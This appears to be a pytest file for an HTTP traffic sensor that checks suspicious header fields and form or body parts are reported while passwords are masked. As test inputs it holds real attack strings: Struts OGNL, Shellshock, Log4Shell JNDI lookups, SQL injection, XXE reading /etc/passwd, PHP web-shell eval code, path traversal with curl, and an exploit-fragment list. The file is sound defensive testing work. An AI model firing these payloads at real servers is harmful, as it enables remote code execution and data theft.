"""Header fields reported literally: those with content that no ordinary value has, and never a session."""

from __future__ import annotations

import base64
import random

from sensor.dissectors import _http_shape as shapes
from sensor.dissectors._http_shape import FORM, odd_fields, odd_parts


def test_an_expression_in_the_content_type() -> None:
    """An expression in Content-Type, as in the Struts exploit (CVE-2017-5638), is reported; a boundary is not."""
    attack = b"%{(#_='multipart/form-data').(#cmd='id')}"
    assert odd_fields({b"content-type": attack}) == (("content-type", attack.decode()),)
    assert odd_fields({b"content-type": b"multipart/form-data; boundary=----a1"}) == ()


def test_a_cookie_with_an_exploit() -> None:
    """Only the part of a cookie with an exploit is reported; a session with quotes and braces, or a token, is not."""
    session = b'id=0123456789abcdef; prefs={"lang": "en"}'
    assert odd_fields({b"cookie": session}) == ()
    path = b"SESSID=/../../../opt/x`curl${IFS}a`"
    assert odd_fields({b"cookie": session + b"; " + path}) == (("cookie", path.decode()),)


def test_a_cookie_with_a_shell_function() -> None:
    """A shell function in a cookie is reported as a whole, though it contains the separator of cookies; so is a query,
    but not a name with an apostrophe.
    """
    function = b"() { :;}; /bin/bash -c id"
    assert odd_fields({b"cookie": function}) == (("cookie", function.decode()),)
    query = b"TrackingId=x' UNION SELECT name FROM users--"
    assert odd_fields({b"cookie": b"a=1; " + query}) == (("cookie", query.decode()),)
    assert odd_fields({b"cookie": b"name=O'Brien; a=1"}) == ()


def test_a_host_with_an_expression() -> None:
    """An expression in Host is reported, a name or an address is not."""
    assert odd_fields({b"host": b"${jndi:ldap://a}"}) == (("host", "${jndi:ldap://a}"),)
    assert odd_fields({b"host": b"[2001:db8::1]:8080"}) == ()


def test_an_exploit_beside_a_password() -> None:
    """The password of a login in JSON, XML or a multipart form is masked, and the exploit beside it reported; a value
    that cannot be masked hides all of its line.
    """
    sent = (
        (
            b'{"user":"a","password":"hunter2","remember":"${jndi:ldap://x}"}',
            '{"user":"a",***,"remember":"${jndi:ldap://x}"}',
        ),
        (b'{"pin":1234,"host":"`id`"}', '{***,"host":"`id`"}'),
        (b"<a><n:Password x='1'>hunter2</n:Password><b>$(id)</b></a>", "<a>***<b>$(id)</b></a>"),
        (b'--x\r\nname="passwd"\r\n\r\n$(hunter2)\r\nname="y"\r\n\r\n$(id)\r\n', "$(id)"),
        (
            b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        ),
    )
    for body, shown in sent:
        assert odd_parts(body, "") == (shown,)
    assert odd_parts(b'{"password":{"v":"hunter2"},"x":"${jndi:ldap://x}"}', "application/json") == ()
    assert odd_parts(b'{"user":"a","password":"hunter2","theme":"dark"}', "application/json") == ()
    for text in (
        b"`id` password: hunter2",
        b'["`id`","password","hunter2"]',
        b"<name>password</name><value>`id`</value>",
    ):
        assert odd_parts(text, "") == ()
    assert odd_parts(b'{"password":"hunter2 ${jndi:ldap://x}"}', "") == ('{***${jndi:ldap://x}"}',)
    assert odd_parts(b'{"password":"pa${word}ter2"}', "") == ()
    assert odd_parts(b"password=hunter2'+or+'1'='1&pin=$(hunter2)", FORM) == ("***' or '1'='1",)
    assert odd_parts(b"pass=@eval(base64_decode($_POST[z0]));&z0=x", FORM) == ("***@eval(base64_decode($_POST[z0]));",)
    assert odd_parts(b"pass=eval(me)&pwd=retrieval(base64_decode(", FORM) == ()
    assert odd_parts(b"1 UNION SELECT name,password FROM users", "") == ("1 UNION SELECT name,password FROM users",)


def test_commands_in_forms_without_unusual_characters() -> None:
    """Queries, commands and addresses of exploits are reported; words of a sentence and secrets are not."""
    for part in (
        b"id=1 union select 1,2",
        b"id=5 or 5=5",
        b"cmd=whoami",
        b"u=http://169.254.169.254/",
        b"f=/etc/passwd",
    ):
        assert odd_parts(b"a=1&" + part.replace(b" ", b"+"), FORM) == (part.decode(),)
    for part in (b"q=european+union", b"t=black+or+white", b"cmd=show", b"password=5+or+5=5", b"q=how+to+sleep"):
        assert odd_parts(b"a=1&" + part, FORM) == ()


def test_exploits_in_secret_fields() -> None:
    """Of credentials, tokens and entity tags only an exploit is reported, also where it is encoded (RFC 7617)."""
    for login in (b"${jndi:ldap://a}:x", b"u:${jndi:ldap://a}"):
        sent = b"Basic " + base64.b64encode(login)
        assert odd_fields({b"authorization": sent}) == (("authorization", "***" + login[login.index(b"$") :].decode()),)
    for name in (b"authorization", b"x-token", b"if-none-match"):
        assert odd_fields({name: b"Bearer s3cret ${jndi:ldap://a}"}) == ((name.decode(), "***${jndi:ldap://a}"),)
    for value in (b"Basic " + base64.b64encode(b"anna:pa$$<w>{ord}"), b"Basic $", b"Bearer pa${word}"):
        assert odd_fields({b"authorization": value, b"x-token": b"<${word}>"}) == ()


def test_code_in_a_secret_field() -> None:
    """Of a field that is called a password only code for a web shell is reported; other calls in it are not."""
    code = b"eval(base64_decode(strrev(urldecode('K0QfK0Q'))))"
    assert odd_parts(b"pass=" + code + b";&key=fL1tMGI4", FORM) == (f"***{code.decode()};",)
    assert odd_parts(b"pass=hunter2" + code, FORM) == (f"***{code.decode()}",)
    assert odd_parts(b"pass=eval(x);'&password=assert(2)'", FORM) == ()


def test_a_host_longer_than_any_name() -> None:
    """A host that is longer than any name is reported, the longest possible one is not."""
    assert odd_fields({b"host": b"a" * 256}) == (("host", "a" * 256),)
    assert odd_fields({b"host": b"a" * 255}) == ()


FRAGMENTS = (
    b"$", b"{", b"}", b"`", b"|", b"<", b">", b"\\", b"..", b"/", b"(", b")", b"'", b";", b"&&", b"%", b"=", b"a", b" ",
    b"\r\n", b"JNDI:", b"rO0AB", b"\xac\xed\0\x05", b" or ", b"UNION", b" SELECT ", b" WGET ", b"<?PHP", b"<!ENTITY",
    b"AAEAAAD", b"getRuntime", b"ProcessBuilder", b"java.lang.Runtime", b"ObjectDataProvider", b"classLoader",
    b"auto_prepend_file", b"#post_render", b"() {", b"%{", b"{{", b"<!DOCTYPE", b'@type"', b"__proto__", b"NetKeyboard",
    b"' and ",
)  # fmt: skip


def test_what_patterns_find_has_a_sign() -> None:
    """The searches for single texts, which precede those with patterns, exclude nothing that the patterns find."""
    given = random.Random(3)
    found = 0
    for _ in range(4000):
        text = b"".join(given.choices(FRAGMENTS, k=given.randint(1, 7)))
        odd = any(pattern.search(text) for pattern in (shapes.ODD, shapes.ODD_COOKIE))
        assert not odd or shapes.ODD_SIGNS.any_in(text), text
        marks, both = ([one.span() for one in each.finditer(text)] for each in (shapes.ODD_MARK, shapes.ODD_BODY))
        assert marks == both or shapes.WORDS.any_in(text), text
        assert not marks or b";" in text or shapes.MARKS.any_in(text), text
        found += odd + bool(both)
    assert found > 2000
